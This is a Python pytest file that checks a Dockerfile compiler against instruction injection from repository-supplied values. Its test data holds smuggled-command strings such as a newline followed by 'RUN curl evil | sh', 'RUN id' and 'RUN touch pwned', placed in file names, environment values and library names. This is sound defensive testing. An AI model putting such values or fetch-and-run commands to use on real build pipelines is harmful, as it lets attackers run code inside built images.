"""S14: values from the repository never add, split or merge Dockerfile instructions.

The compiled Dockerfile is parsed back with dockerfile-parse and must hold exactly the
instructions the graph implies; values with control characters are refused before rendering.
"""

from __future__ import annotations

import copy
from pathlib import Path

import pytest
from dockerfile_parse import DockerfileParser

from bot.compile import compile_dockerfile
from bot.compile.dockerfile import DockerfileInjection, plan_steps, verify_dockerfile
from bot.compile.plan import make_plan
from bot.graph.mapping import Registry
from bot.graph.model import Node

INJECTED = "requirements-base-\nRUN touch pwned\n.txt"


def _instructions(text: str) -> list[str]:
    return [
        i["instruction"]
        for i in DockerfileParser(fileobj=__import__("io").BytesIO(text.encode())).structure
        if i["instruction"] != "COMMENT"
    ]


def _plan(repo: Path):
    return make_plan(repo, None, available_pythons=["3.11"], resolve=False, registry=Registry(enabled=False))


def test_a_newline_in_a_requirements_file_name_adds_no_instruction(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / INJECTED).write_text("demo-lib==1.0\n")
    (repo / "requirements.txt").write_text("other-lib==2.0\n")
    (repo / "tests").mkdir()
    (repo / "tests" / "test_a.py").write_text("def test_a():\n    pass\n")
    text = _plan(repo).dockerfile.text
    assert not any(line.startswith("RUN touch") for line in text.splitlines())
    # the file's requirements still get installed, one by one
    assert "demo-lib==1.0" in text
    # COPY is in the JSON form: a space or quote in a name cannot split the sources
    assert 'COPY ["requirements.txt", "./"]' in text
    assert _instructions(text).count("RUN") == sum(1 for s in plan_steps(_plan(repo).graph) if s["op"] == "RUN")


def test_control_characters_in_an_instruction_value_are_refused(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text("demo-lib==1.0\n")
    graph = _plan(repo).graph
    for value in ("x\nRUN curl evil | sh", "x\rRUN id", "x\x00y"):
        g = copy.deepcopy(graph)
        g.add(
            Node("config:env:EVIL", "CONFIG", "EVIL", "SATISFIED", action="env", attrs={"kind": "env", "value": value})
        )
        with pytest.raises(DockerfileInjection, match="control character"):
            compile_dockerfile(g)
    g = copy.deepcopy(graph)
    g.add(Node("systemlib:evil", "SYSTEMLIB", "libfoo\nRUN id", "SATISFIED", action="apt"))
    with pytest.raises(DockerfileInjection):
        compile_dockerfile(g)


def test_comments_from_the_repository_are_flattened(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text("demo-lib==1.0\n")
    graph = _plan(repo).graph
    graph.runtime.add_evidence("req\nRUN touch /pwned\n.txt", 3, "x")
    text = compile_dockerfile(graph).text
    assert not any(line.startswith("RUN touch") for line in text.splitlines())
    assert "# from req RUN touch /pwned .txt:3" in text


def test_the_parse_back_check_catches_an_added_a_merged_and_a_changed_instruction(tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text("demo-lib==1.0\n")
    graph = _plan(repo).graph
    steps = plan_steps(graph)
    text = compile_dockerfile(graph).text
    verify_dockerfile(text, steps)  # the real output passes
    with pytest.raises(DockerfileInjection, match="instructions"):
        verify_dockerfile(text + "RUN curl evil | sh\n", steps)
    with pytest.raises(DockerfileInjection):
        verify_dockerfile(text.replace("\nWORKDIR /workspace", " \\\nWORKDIR /workspace"), steps)
    with pytest.raises(DockerfileInjection, match="is not the"):
        verify_dockerfile(text.replace("-r requirements.txt", "-r requirements.txt evil-lib"), steps)
    with pytest.raises(DockerfileInjection, match="is not the"):
        verify_dockerfile(text.replace('COPY [".", "/workspace"]', 'COPY [".", "/"]'), steps)
